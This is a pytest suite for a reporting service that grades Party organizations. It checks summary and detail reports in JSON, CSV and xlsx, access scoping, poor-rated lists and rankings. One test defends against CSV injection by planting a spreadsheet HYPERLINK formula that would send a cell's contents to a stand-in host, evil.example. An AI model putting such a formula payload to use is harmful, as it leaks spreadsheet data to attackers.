"""Reports: the summary adds up to the detail, in JSON, CSV (with BOM) and xlsx, within scope."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from fractions import Fraction
from typing import Any
from urllib.parse import quote

from openpyxl import load_workbook
from sqlalchemy.orm import Session

from service.campaigns.models import Campaign
from service.gradings.models import Grading
from service.organizations.models import Organization
from service.reports import queries as reports
from service.scores import round_score
from tests.conftest import Api, assert_problem
from tests.evaluation_helpers import sheet, url
from tests.grading_helpers import put_in_state, walk


def graded(db: Session, api: Api, levels: dict[str, tuple[str, str | None]]) -> int:
    for key, (state, level) in levels.items():
        grading = db.get_one(Grading, api.world.gradings[key].id)
        walk(grading, state)
        grading.level = level
    db.commit()
    return api.world.campaigns["open"].id


def test_the_summary_counts_final_levels_per_unit_domain_and_area(api: Api, db: Session) -> None:
    campaign = graded(db, api, {"A1-01": ("rated", "good"), "A1-02": ("publicity", "average")})
    report = api.get(f"/api/v1/campaigns/{campaign}/reports/summary", who="inspector").get_json()
    # 党组织数 counts every organization in scope; a level only once it is final
    assert [(r["name"], r["total"]) for r in report["rows"]] == [("甲县委", 2), ("甲镇党委", 2)]
    assert report["total"]["levels"]["good"] == {"count": 1, "share": "50.00"}
    assert report["total"]["levels"]["average"] == {"count": 0, "share": "0.00"}
    provisional = api.get(
        f"/api/v1/campaigns/{campaign}/reports/summary?provisional=true", who="inspector"
    ).get_json()
    assert provisional["total"]["total"] == 2
    assert provisional["total"]["levels"]["average"] == {"count": 1, "share": "50.00"}
    assert [(r["name"], r["total"]) for r in provisional["by_domain"]] == [("机关", 1), ("农村", 1)]


def detail_table(book: Any) -> tuple[list[Any], list[list[Any]]]:
    """The 明细表's parts joined back into one table (单位 and 党组织名称 once)."""
    header: list[Any] = []
    rows: list[list[Any]] = []
    for n, part in enumerate(book.worksheets):
        skip = 0 if n == 0 else 2
        header += [c.value for c in part[2]][skip:]
        values = [list(r) for r in part.iter_rows(min_row=3, values_only=True)]
        rows = values if n == 0 else [a + b[skip:] for a, b in zip(rows, values, strict=True)]
    return header, rows


def test_csv_opens_in_excel_and_the_sums_match_the_detail(api: Api, db: Session) -> None:
    campaign = graded(db, api, {"A1-01": ("rated", "good"), "A1-02": ("closed", "poor")})
    summary = api.get(
        f"/api/v1/campaigns/{campaign}/reports/summary", who="admin", headers={"Accept": "text/csv"}
    )
    text = summary.get_data(as_text=True)
    assert summary.mimetype == "text/csv" and text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][:4] == ["单位", "党组织数", "好(个)", "好(占比%)"]
    total = next(r for r in rows if r[0] == "合计")
    assert total[2:4] == ["1", "50.00"]  # a share is spelled like every score: two decimals
    detail = api.get(f"/api/v1/campaigns/{campaign}/reports/detail?format=csv", who="admin")
    detail_rows = list(csv.reader(io.StringIO(detail.get_data(as_text=True).lstrip("\ufeff"))))
    assert detail_rows[0][:5] == ["单位", "党组织名称", "领域", "书记", "党员数"]
    assert detail_rows[0][5:7] == ["党组织带头人(上级)", "党组织带头人(自评)"]
    assert detail_rows[0][-4:] == ["综合得分", "计算等次", "定级等次", "状态"]
    assert int(total[1]) == len(detail_rows) - 1 == 2
    assert sorted(r[-2] for r in detail_rows[1:]) == ["好", "较差"]


def test_xlsx_has_a_title_frozen_headers_and_numbers_as_numbers(api: Api, db: Session) -> None:
    campaign = graded(db, api, {"A1-01": ("rated", "good"), "A1-02": ("rated", "fairly_good")})
    response = api.get(f"/api/v1/campaigns/{campaign}/reports/summary?format=xlsx", who="admin")
    year = db.get_one(Campaign, campaign).year
    name = f"甲县委{year}年基层党组织分类定级汇总表"
    assert response.headers["Content-Disposition"] == (
        f"attachment; filename=\"summary.xlsx\"; filename*=UTF-8''{quote(name)}.xlsx"
    )
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet is not None and sheet.title == "汇总表"
    assert sheet["A1"].value == name and sheet.freeze_panes == "A3"
    # ready to print: landscape, one page wide, title and header on every page, a footer
    assert sheet.page_setup.orientation == "landscape"
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    assert sheet.print_title_rows == "$1:$2"
    assert "生成于" in sheet.oddFooter.left.text and "正式等次" in sheet.oddFooter.left.text
    assert sheet["A3"].border.left.style == "thin"
    assert sheet.column_dimensions["A"].width >= len("甲镇党委") * 2
    assert [c.value for c in sheet[2]][:3] == ["单位", "党组织数", "好(个)"]
    total = next(row for row in sheet.iter_rows(min_row=3, values_only=True) if row[0] == "合计")
    assert total[1] == 2 and total[2] == 1 and total[3] == 50.0
    detail = load_workbook(
        io.BytesIO(
            api.get(f"/api/v1/campaigns/{campaign}/reports/detail?format=xlsx", who="admin").data
        )
    )
    # printed in parts a clerk can read, the organization at the left of each
    assert detail.sheetnames == ["明细表（一）", "明细表（二）", "明细表（三）"]
    for part in detail.worksheets:
        assert part.max_row == 2 + 2 and part.max_column <= 14
        assert [c.value for c in part[2]][:2] == ["单位", "党组织名称"]
        assert part.page_setup.orientation == "landscape" and part.print_title_rows == "$1:$2"
    assert "明细表（一／共3部分）" in str(detail.worksheets[0]["A1"].value)
    header, _ = detail_table(detail)
    assert len(header) == 5 + 14 + 4 + 4  # seven indicators, two 加减分 items, each per source


def test_reports_are_scoped_to_the_callers_subtree(api: Api, db: Session) -> None:
    campaign = graded(db, api, {"A1-01": ("rated", "good"), "A1-02": ("rated", "average")})
    own = api.get(f"/api/v1/campaigns/{campaign}/reports/detail", who="secretary").get_json()
    assert [i["name"] for i in own["items"]] == ["东村党支部"] and own["unit"] == "东村党支部"
    assert_problem(
        api.get(f"/api/v1/campaigns/{campaign}/reports/summary", who="reviewer_b"), 404, "not-found"
    )
    assert_problem(
        api.get(
            f"/api/v1/campaigns/{campaign}/reports/summary?within={api.world.org('B').id}",
            who="admin",
        ),
        404,
        "not-found",
    )


def test_the_poor_list_and_their_situation(api: Api, db: Session) -> None:
    from service.context import Actor
    from service.gradings import records

    campaign = graded(db, api, {"A1-01": ("rectification", "poor"), "A1-02": ("rated", "good")})
    grading = db.get_one(Grading, api.world.gradings["A1-01"].id)
    actor = Actor.system("t")
    for n, status in enumerate(("closed", "in_progress"), start=1):
        records.write(
            db,
            actor,
            grading,
            "rectification_item",
            {
                "problem": f"问题{n}",
                "cause": f"原因{n}",
                "measure": f"措施{n}",
                "deadline": f"2026-0{n + 5}-30",
                "status": status,
            },
            key=f"I{n}",
        )
    records.write(
        db, actor, grading, "rectification_helpers", {"paired_leader": "李明", "liaison": "张华"}
    )
    db.commit()
    names = api.get(f"/api/v1/campaigns/{campaign}/reports/poor-list", who="inspector").get_json()
    assert [i["name"] for i in names["items"]] == ["东村党支部"]
    status = api.get(
        f"/api/v1/campaigns/{campaign}/reports/poor-status", who="inspector"
    ).get_json()
    assert status["items"] == [
        {
            "name": "东村党支部",
            "problems": "问题1；问题2",
            "causes": "原因1；原因2",
            "measures": "措施1；措施2",
            "paired_leader": "李明",
            "liaison": "张华",
            "paired_with": None,
            "pairing_activities": "",
            "deadline": "2026-07-30",
            "progress": "1/2",
        }
    ]
    sheet = load_workbook(
        io.BytesIO(
            api.get(
                f"/api/v1/campaigns/{campaign}/reports/poor-status?format=xlsx", who="inspector"
            ).data
        )
    ).active
    assert sheet is not None and sheet["J3"].value == "1/2"  # after 结对先进党组织, 结对帮扶活动


def test_campaign_progress(api: Api, db: Session) -> None:
    campaign = graded(db, api, {"A1-01": ("evaluation", None), "A1-02": ("rated", "good")})
    report = api.get(f"/api/v1/campaigns/{campaign}/reports/progress", who="inspector").get_json()
    assert report["gradings_by_unit"] == [
        {"unit": "甲镇党委", "states": {"evaluation": 1, "rated": 1}}
    ]
    assert report["overdue_by_stage"] == {"evaluation": 1}  # the 2025 campaign's deadlines passed
    assert report["rectification_items"] == {"open": 0, "closed": 0, "overdue": 0}
    assert report["ballots"] == {"issued": 0, "returned": 0}
    assert report["complaints"] == {"open": 0, "answered": 0}


def test_the_detail_shows_each_indicator_per_source_and_the_composite_as_numbers(
    api: Api, db: Session
) -> None:
    from service.context import Actor
    from service.gradings import records

    campaign = graded(db, api, {"A1-01": ("rated", "fairly_good")})
    grading = db.get_one(Grading, api.world.gradings["A1-01"].id)
    actor = Actor.system("t")
    records.write(
        db, actor, grading, "assessment", {"scores": [{"indicator": "leader", "score": "13.50"}]}
    )
    records.write(
        db, actor, grading, "self_rating", {"scores": [{"indicator": "leader", "score": "14"}]}
    )
    records.write(
        db,
        actor,
        grading,
        "decision",
        {"level": "fairly_good", "computed_level": "fairly_good", "composite": "86.20"},
    )
    db.commit()
    item = api.get(f"/api/v1/campaigns/{campaign}/reports/detail", who="inspector").get_json()[
        "items"
    ][0]
    assert (item["assessment:leader"], item["self_rating:leader"], item["composite"]) == (
        "13.50",
        "14",
        "86.20",
    )
    header, rows = detail_table(
        load_workbook(
            io.BytesIO(
                api.get(
                    f"/api/v1/campaigns/{campaign}/reports/detail?format=xlsx", who="inspector"
                ).data
            )
        )
    )
    row = rows[0]
    assert row[header.index("党组织带头人(上级)")] == 13.5 and row[header.index("综合得分")] == 86.2
    assert row[header.index("计算等次")] == "较好"


def test_each_branchs_deductions_are_entered_item_by_item_in_the_detail(
    api: Api, db: Session
) -> None:
    """镇党委……对各支部记分情况进行了汇总,扣分项目明细登记,一目了然: the 明细表 shows
    each 加减分 item, as scored by the superior and by the branch itself."""
    key = "A1-01"
    put_in_state(db, api.world.gradings[key], "self_rating")
    own = api.put(url(api, "self-rating", key), json=sheet(), who="secretary")  # 表彰 +2
    assert own.status_code == 200, own.get_json()
    put_in_state(db, api.world.gradings[key], "superior_review")
    assessed = sheet(adjustments=[{"code": "late", "points": "3"}])
    del assessed["proposed_level"], assessed["explanation"]
    response = api.put(url(api, "assessment", key), json=assessed, who="reviewer")
    assert response.status_code == 200, response.get_json()
    assert response.get_json()["totals"]["deduction"] == "3.00"
    campaign = graded(db, api, {key: ("rated", "fairly_good")})
    item = api.get(f"/api/v1/campaigns/{campaign}/reports/detail", who="inspector").get_json()[
        "items"
    ][0]
    assert item["assessment:adjustment.late"] == "3.00"
    assert item["self_rating:adjustment.honours"] == "2.00"
    assert "assessment:adjustment.honours" not in item  # the superior gave no bonus
    book = load_workbook(
        io.BytesIO(
            api.get(
                f"/api/v1/campaigns/{campaign}/reports/detail?format=xlsx", who="inspector"
            ).data
        )
    )
    header, rows = detail_table(book)
    bonus, deduction = header.index("加分·表彰(上级)"), header.index("扣分·迟报漏报(上级)")
    assert header.index("工作业绩(自评)") < bonus < deduction < header.index("综合得分")
    assert rows[0][deduction] == 3 and rows[0][header.index("加分·表彰(自评)")] == 2
    assert rows[0][bonus] is None


def test_an_indicator_refined_wider_than_a_page_is_printed_over_several_parts() -> None:
    """工作业绩 refined per 领域: the union of every 领域's sub-items, by two sources, is far
    wider than A4; it is cut into parts of at most 14 columns, the organization at the left."""
    from service.reports.formats import DETAIL_PAGE_COLUMNS, detail_parts

    refined = [f"工作业绩·细项{n}(上级)" for n in range(30)]
    header = ["单位", "党组织名称", "领域", "书记", "党员数", *refined]
    header += ["综合得分", "计算等次", "定级等次", "状态"]
    row = list(range(len(header)))
    sheets = detail_parts("明细表", header, [row])
    assert all(len(columns) <= DETAIL_PAGE_COLUMNS for _, _, columns, _ in sheets)
    assert all(columns[:2] == ["单位", "党组织名称"] for _, _, columns, _ in sheets)
    printed = [c for _, _, columns, _ in sheets for c in columns[2:]]
    assert printed == header[2:]  # every column once, in order
    for _, _, columns, rows in sheets:  # each cell under its own header
        assert [header[cell] for cell in rows[0]] == columns


def test_a_printed_poor_list_with_nobody_on_it_says_none(api: Api, db: Session) -> None:
    campaign = graded(db, api, {"A1-01": ("rated", "good"), "A1-02": ("rated", "average")})
    for kind in ("poor-list", "poor-status"):
        url = f"/api/v1/campaigns/{campaign}/reports/{kind}"
        assert api.get(url, who="inspector").get_json()["items"] == []
        sheet = load_workbook(io.BytesIO(api.get(f"{url}?format=xlsx", who="inspector").data))
        rows = list(sheet.worksheets[0].iter_rows(min_row=3, values_only=True))
        assert rows[0][0] == "无" and len(rows) == 1, (kind, rows)
        printed = api.get(f"{url}?format=csv", who="inspector").get_data(as_text=True)
        assert len(printed.strip().splitlines()) == 1  # a program reads no rows, not a "无" row


def test_progress_exports_as_a_table(api: Api, db: Session) -> None:
    campaign = graded(db, api, {"A1-02": ("rated", "good")})
    response = api.get(f"/api/v1/campaigns/{campaign}/reports/progress?format=csv", who="inspector")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0] == ["单位", "项目", "数量"] and ["甲镇党委", "状态:定级", "1"] in rows


def test_an_indicator_scored_by_sub_items_is_their_sum_in_the_detail() -> None:
    sheet = {
        "scores": [
            {"indicator": "leader", "score": "12.00"},
            {
                "indicator": "performance",
                "sub_items": [
                    {"code": "economy", "score": "7.50"},
                    {"code": "services", "score": "6.00"},
                ],
            },
        ]
    }
    assert reports._scores(sheet) == {
        "leader": Decimal("12.00"),
        "performance": Decimal("13.50"),
        "performance.economy": Decimal("7.50"),
        "performance.services": Decimal("6.00"),
    }


def test_a_name_that_looks_like_a_formula_stays_text_in_csv_and_xlsx(api: Api, db: Session) -> None:
    """CSV injection: an organization named =HYPERLINK(…) is shown, never run."""
    trap = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    db.get_one(Organization, api.world.org("A1-01").id).name = trap
    campaign = graded(db, api, {"A1-01": ("rated", "good")})
    csv_text = api.get(
        f"/api/v1/campaigns/{campaign}/reports/detail?format=csv", who="admin"
    ).get_data(as_text=True)
    cells = [c for row in csv.reader(io.StringIO(csv_text.lstrip("\ufeff"))) for c in row]
    assert "'" + trap in cells and trap not in cells
    book = load_workbook(
        io.BytesIO(
            api.get(f"/api/v1/campaigns/{campaign}/reports/detail?format=xlsx", who="admin").data
        )
    ).active
    assert book is not None
    found = [c for row in book.iter_rows() for c in row if c.value == trap]
    assert found and all(c.data_type == "s" for c in found)  # a string cell, not a formula


def test_a_branch_under_a_general_branch_rolls_up_to_the_committees_above_it(
    api: Api, db: Session
) -> None:
    """党总支 → 党支部 (no 协作区): the committees on its path count it once each; the area
    table gives it the row of the unassigned."""
    from service.context import Actor
    from service.organizations import operations as orgs

    actor = Actor.system("t")
    general = orgs.create_organization(
        db,
        actor,
        db.get_one(Organization, api.world.orgs["A1"].id),
        {"code": "A1-Z", "name": "甲镇某村党总支", "kind": "general_branch", "domain": "village"},
    )
    branch = orgs.create_organization(
        db,
        actor,
        general,
        {"code": "A1-Z1", "name": "某村第一党支部", "kind": "branch", "domain": "village"},
    )
    campaign_id = graded(db, api, {"A1-01": ("rated", "good")})
    existing = db.get_one(Grading, api.world.gradings["A1-01"].id)
    added = Grading(
        campaign_id=campaign_id,
        organization_id=branch.id,
        standard_id=existing.standard_id,
        enrolled_at=existing.enrolled_at,
        state_entered_at=existing.state_entered_at,
    )
    db.add(added)
    db.flush()
    walk(added, "rated")
    added.level = "poor"
    db.commit()
    report = reports.summary(
        db,
        db.get_one(Campaign, campaign_id),
        db.get_one(Organization, api.world.orgs["A"].id),
        False,
    )
    assert [(r["name"], r["total"], r["levels"]["poor"]["count"]) for r in report["rows"]] == [
        ("甲县委", 3, 1),
        ("甲镇党委", 3, 1),
    ]
    assert report["total"]["total"] == 3
    assert [(r["name"], r["total"]) for r in report["by_domain"]] == [("机关", 1), ("农村", 2)]
    assert ("未划分协作区", 3) in [(r["name"], r["total"]) for r in report["by_area"]]


def test_a_share_is_rounded_half_up_like_every_score() -> None:
    """The reports' integer shortcut agrees with round_score on every count of every total up
    to 250 (1/8 = 12.50, 1/3 = 33.33, 2/3 = 66.67, 1/200 = 0.50) and spells two places."""
    for total in range(1, 251):
        for count in range(total + 1):
            expected = round_score(Fraction(count * 100, total))
            share = reports._share(count, total)
            assert (share, str(share)) == (expected, str(expected)), (count, total)
    assert str(reports._share(0, 0)) == "0.00"


def test_each_coordination_area_ranks_its_organizations_by_composite_score(
    api: Api, db: Session
) -> None:
    """机关党工委将以协作区为单位进行打分: the organizations of each 协作区, best first."""
    from service.context import Actor
    from service.gradings import records

    campaign = graded(db, api, {"A1-01": ("rated", "good"), "A1-02": ("rated", "fairly_good")})
    for key, area, composite in (
        ("A1-01", "东片协作区", "91.50"),
        ("A1-02", "东片协作区", "93.00"),
    ):
        db.get_one(Organization, api.world.org(key).id).coordination_area = area
        grading = db.get_one(Grading, api.world.gradings[key].id)
        records.write(
            db,
            Actor.system("t"),
            grading,
            "decision",
            {"level": grading.level, "computed_level": grading.level, "composite": composite},
        )
    db.commit()
    report = api.get(f"/api/v1/campaigns/{campaign}/reports/ranking", who="inspector").get_json()
    [area] = report["areas"]
    assert area["area"] == "东片协作区"
    assert [(i["rank"], i["name"], i["composite"]) for i in area["items"]] == [
        (1, "甲镇机关党支部", "93.00"),
        (2, "东村党支部", "91.50"),
    ]
    printed = api.get(
        f"/api/v1/campaigns/{campaign}/reports/ranking?format=csv", who="inspector"
    ).get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(printed.lstrip("\ufeff"))))
    assert rows[0] == ["协作区", "名次", "党组织名称", "单位", "综合得分", "等次"]
    assert rows[1][:3] == ["东片协作区", "1", "甲镇机关党支部"]
